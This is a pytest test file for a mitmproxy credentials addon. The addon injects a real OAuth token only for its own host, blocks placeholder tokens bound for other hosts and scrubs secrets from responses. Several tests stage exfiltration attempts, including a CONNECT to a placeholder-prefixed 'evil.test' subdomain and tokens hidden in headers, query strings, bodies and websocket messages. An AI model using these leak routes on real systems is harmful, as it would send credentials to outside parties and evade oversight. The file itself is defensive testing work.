"""`addons.credentials.Credentials` on crafted flows: the agent holds placeholders; the proxy
injects the real value only for the credential's own host, refuses a placeholder sent
anywhere else, and scrubs the real value out of what comes back."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

from mitmproxy import websocket
from mitmproxy.test import tflow
from wsproto.frame_protocol import Opcode

from addons.credentials import Credentials
from addons.dlp import DLP
from addons.support.failclosed import FailClosed
from tests.addons.conftest import (
    Env,
    assert_denied,
    assert_untouched,
    call,
    connect_flow,
    exchange,
    https_flow,
    make_env,
    origin_response,
    rules,
    streamed,
    summary,
    verdict,
)

REAL = "real-oauth-abcdefabcdef0123456"
POLICY = """
    mode: {mode}
    hosts:
      allow:
        - hosts: [api.example.com, other.example.com]
    dlp:
      stream_threshold: 1000
    credentials:
      - name: oauth
        host: api.example.com
        header: "Authorization: Bearer {{secret}}"
        source: {{env: O}}
        placeholder: {{env: OAUTH}}
"""


def setup(tmp_path: Path, mode: str = "enforce") -> tuple[Credentials, Env, str]:
    env = make_env(tmp_path, POLICY.format(mode=mode))
    rt = env.runtime
    rt.credentials.load(rt.policy.policy.credentials, lambda source: {"O": REAL}[source.env or ""])
    return Credentials(rt, FailClosed(rt)), env, rt.credentials.placeholders()["oauth"]


def test_a_host_without_credentials_is_untouched(tctx: Any, tmp_path: Path) -> None:
    addon, _, _ = setup(tmp_path)
    f = https_flow("other.example.com", headers=[("authorization", "Bearer agents-own")])
    exchange(tctx, addon, f, origin_response(b"origin"))
    assert f.request.headers["authorization"] == "Bearer agents-own"
    assert f.response is not None and f.response.content == b"origin"
    assert_untouched(f)
    assert rules(f) == []


def test_the_real_value_goes_to_its_host_and_is_scrubbed_from_the_answer(tctx: Any, tmp_path: Path) -> None:
    addon, _, placeholder = setup(tmp_path)
    f = https_flow("api.example.com", headers=[("authorization", f"Bearer {placeholder}")])
    call(tctx, addon, "requestheaders", f)
    call(tctx, addon, "request", f)
    assert f.request.headers["authorization"] == f"Bearer {REAL}"  # what the origin receives
    assert (summary(f) or {})["credentials"] == ["oauth"]
    f.response = origin_response(f"you sent {REAL}".encode(), headers={"x-echo": REAL})
    call(tctx, addon, "responseheaders", f)
    call(tctx, addon, "response", f)
    assert f.response.content == f"you sent {placeholder}".encode()
    assert f.response.headers["x-echo"] == placeholder
    # the flow keeps the placeholder (for the audit log and flow files), never the value
    assert f.request.headers["authorization"] == f"Bearer {placeholder}"
    assert verdict(f) == "allow"


def test_a_placeholder_sent_elsewhere_is_refused(tctx: Any, tmp_path: Path) -> None:
    addon, _, placeholder = setup(tmp_path)
    for f in (https_flow("other.example.com", headers=[("x-token", placeholder)]),
              https_flow("other.example.com", f"/upload?t={placeholder}"),
              https_flow("other.example.com", method="POST", content=f"t={placeholder}".encode())):
        exchange(tctx, addon, f, origin_response())
        body = assert_denied(f, 403, "credentials/placeholder-exfiltration")
        assert placeholder not in body["reason"] and REAL not in str(f.request.headers)
    c = connect_flow(f"{placeholder}.evil.test")
    call(tctx, addon, "http_connect", c)
    assert_denied(c, 403, "credentials/placeholder-exfiltration")


def test_audit_mode_reports_a_misplaced_placeholder_and_changes_nothing(tctx: Any, tmp_path: Path) -> None:
    addon, _, placeholder = setup(tmp_path, "audit")
    f = https_flow("other.example.com", headers=[("x-token", placeholder)])
    exchange(tctx, addon, f, origin_response(b"origin"))
    assert f.request.headers["x-token"] == placeholder
    assert f.response is not None and f.response.content == b"origin"
    assert rules(f) == ["credentials/placeholder-exfiltration"] and verdict(f) == "allow"


def test_an_answer_that_cannot_be_decoded_to_scrub_it_is_refused(tctx: Any, tmp_path: Path) -> None:
    addon, _, placeholder = setup(tmp_path)
    f = https_flow("api.example.com", headers=[("authorization", f"Bearer {placeholder}")])
    call(tctx, addon, "request", f)
    truncated = gzip.compress(f"token {REAL} and more".encode())[:-12]
    f.response = origin_response(headers={"content-encoding": "gzip"})
    f.response.raw_content = truncated  # as it came off the wire
    call(tctx, addon, "responseheaders", f)
    call(tctx, addon, "response", f)
    assert_denied(f, 502, "credentials/response-not-scrubbable")
    assert f.response is not None and REAL.encode() not in (f.response.raw_content or b"")


def test_websocket_placeholders_are_dropped_and_server_messages_scrubbed(tctx: Any, tmp_path: Path) -> None:
    addon, _, placeholder = setup(tmp_path)
    out = https_flow("other.example.com")
    out.websocket = tflow.twebsocket(messages=False)
    out.websocket.messages.append(websocket.WebSocketMessage(
        Opcode.TEXT, True, f"key {placeholder}".encode()))
    call(tctx, addon, "websocket_message", out)
    assert out.websocket.messages[-1].dropped
    assert rules(out) == ["credentials/placeholder-exfiltration"]
    back = https_flow("api.example.com")
    back.websocket = tflow.twebsocket(messages=False)
    back.websocket.messages.append(websocket.WebSocketMessage(
        Opcode.TEXT, False, f"echo {REAL}".encode()))
    call(tctx, addon, "websocket_message", back)
    assert back.websocket.messages[-1].content == f"echo {placeholder}".encode()


def test_a_streamed_request_is_injected_at_its_head_and_its_body_gated(tctx: Any, tmp_path: Path) -> None:
    """A body DLP streams leaves right after `requestheaders`: the credential goes in there,
    and a placeholder in the body stops the stream before any byte of it is forwarded."""
    addon, env, placeholder = setup(tmp_path)
    dlp = DLP(env.runtime, addon.failclosed)  # earlier in the chain: decides the body streams
    ok = https_flow("api.example.com", method="POST",
                    headers=[("authorization", f"Bearer {placeholder}"), ("content-length", "5000")])
    for a in (dlp, addon):
        call(tctx, a, "requestheaders", ok)
    assert ok.request.headers["authorization"] == f"Bearer {REAL}"
    assert b"".join(streamed(ok.request.stream, [b"a" * 2500, b"b" * 2500])) == b"a" * 2500 + b"b" * 2500
    assert ok.killable and rules(ok) == []
    leak = https_flow("other.example.com", method="POST", headers=[("content-length", "5000")])
    for a in (dlp, addon):
        call(tctx, a, "requestheaders", leak)
    sent = b"".join(streamed(leak.request.stream,
                             [b"x" * 2000, f"t={placeholder}".encode() + b"y" * 2000]))
    assert placeholder.encode() not in sent
    assert rules(leak) == ["credentials/placeholder-exfiltration"] and not leak.killable
